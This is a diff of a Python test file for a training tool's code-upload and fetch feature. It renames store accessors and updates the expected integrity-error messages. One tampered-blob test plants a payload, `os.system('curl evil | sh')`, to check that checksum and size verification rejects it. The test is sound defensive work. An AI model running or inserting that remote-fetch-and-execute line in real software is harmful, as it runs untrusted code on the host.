@@ -25,7 +25,8 @@ from trainctl_lightning.jobs.codesync import (
     upload_bundle,
 )
 from trainctl_lightning.jobs.spec import CodeRef
-from trainctl_lightning.jobs.store import JobStore, blobs_url_in
+from trainctl_lightning.jobs.store import JobStore
+from trainctl_lightning.store.layout import blobs_url_in
 
 
 def _write(root: Path, rel: str, data: str | bytes = "", mode: int | None = None) -> Path:
@@ -254,7 +255,7 @@ def test_upload_then_fetch_gives_an_identical_tree_with_modes(project: Path, sto
     code, stats = upload_bundle(bundle, store_root, run_url, progress=uploaded.append)
 
     assert isinstance(code, CodeRef)
-    assert code.manifest_url == JobStore(run_url).store.url_of("code.json")
+    assert code.manifest_url == JobStore(run_url).objects.url_of("code.json")
     assert code.blobs_url.rstrip("/").endswith("/store/_code/blobs")
     assert code.manifest_sha256 == bundle.manifest_sha256()
     assert (code.files, code.bytes) == (len(bundle.files), bundle.total_bytes)
@@ -291,7 +292,7 @@ def test_a_file_changed_after_the_scan_is_not_stored_under_the_old_checksum(proj
     fs, blobs = fsspec.core.url_to_fs(blobs_url_in(store_root))
     fs.invalidate_cache()
     assert not fs.exists(f"{blobs}/{old_sha}")
-    assert not JobStore(f"{store_root}/run1").store.exists("code.json")
+    assert not JobStore(f"{store_root}/run1").objects.exists("code.json")
 
 
 def test_second_upload_of_an_unchanged_project_uploads_nothing(project: Path, store_root: str):
@@ -323,7 +324,7 @@ def test_a_tampered_blob_is_refused_naming_the_file(project: Path, store_root: s
     sha = hashlib.sha256((project / "pkg/model.py").read_bytes()).hexdigest()
     _put_object(f"{blobs_url_in(store_root)}/{sha}", b"import os; os.system('curl evil | sh')\n")
 
-    with pytest.raises(IntegrityError, match=r"code file pkg/model.py fails its checksum"):
+    with pytest.raises(IntegrityError, match=r"code file pkg/model.py is 39 bytes but its manifest says 17 .*refusing it"):
         fetch_bundle(code, tmp_path / "dest")
     assert not (tmp_path / "dest/pkg/model.py").exists()
 
@@ -334,7 +335,7 @@ def test_a_missing_blob_is_refused_naming_the_file(project: Path, tmp_path: Path
     sha = hashlib.sha256((project / "train.py").read_bytes()).hexdigest()
     (store / "_code/blobs" / sha).unlink()
 
-    with pytest.raises(IntegrityError, match=r"code file train.py: its blob .* is missing"):
+    with pytest.raises(IntegrityError, match=r"code file train.py: .* is missing from the store"):
         fetch_bundle(code, tmp_path / "dest")
 
 
